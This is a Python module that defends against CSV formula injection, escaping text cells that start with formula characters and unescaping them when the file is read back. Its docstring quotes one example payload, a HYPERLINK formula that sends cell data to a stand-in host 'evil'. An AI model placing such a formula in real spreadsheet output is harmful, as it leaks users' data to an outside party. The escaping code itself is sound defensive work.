"""Text cells a spreadsheet must not run: the CSV side of formula injection.

Excel, WPS and LibreOffice run a CSV cell that starts with `=`, `+`, `-` or `@`
(and, after a tab or carriage return, the same) as a formula: a stakeholder named
`=HYPERLINK("http://evil/?"&A1,"click")` would send the sheet's data away from the
client's own machine. Every text cell stakegraph writes to a CSV goes through
`escape_formula`, which puts an apostrophe in front of such a cell, as OWASP
recommends (a spreadsheet shows the text as typed); `unescape_formula`, applied to
every CSV cell read, takes it off again, so our own files re-import exactly.

The pair is a bijection: a text that itself starts with an apostrophe followed by
one of those characters (or by another apostrophe) gets one more apostrophe, so
`unescape_formula(escape_formula(t)) == t` for every text `t`. Numbers (a
sentiment of -1) are not text and are written as they are. In .xlsx files, text
is written as typed string cells instead (`openpyxl` would otherwise store a
string starting with `=` as a formula).
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\t\r")
"""First characters that make a spreadsheet read a CSV cell as a formula."""


def escape_formula(text: str) -> str:
    """`text` as a CSV cell no spreadsheet runs."""
    if not text:
        return text
    if text[0] in FORMULA_STARTS or (
        text[0] == "'" and len(text) > 1 and (text[1] in FORMULA_STARTS or text[1] == "'")
    ):
        return "'" + text
    return text


def unescape_formula(cell: str) -> str:
    """A CSV cell as the text it escapes (the inverse of `escape_formula`)."""
    if len(cell) > 1 and cell[0] == "'" and (cell[1] in FORMULA_STARTS or cell[1] == "'"):
        return cell[1:]
    return cell
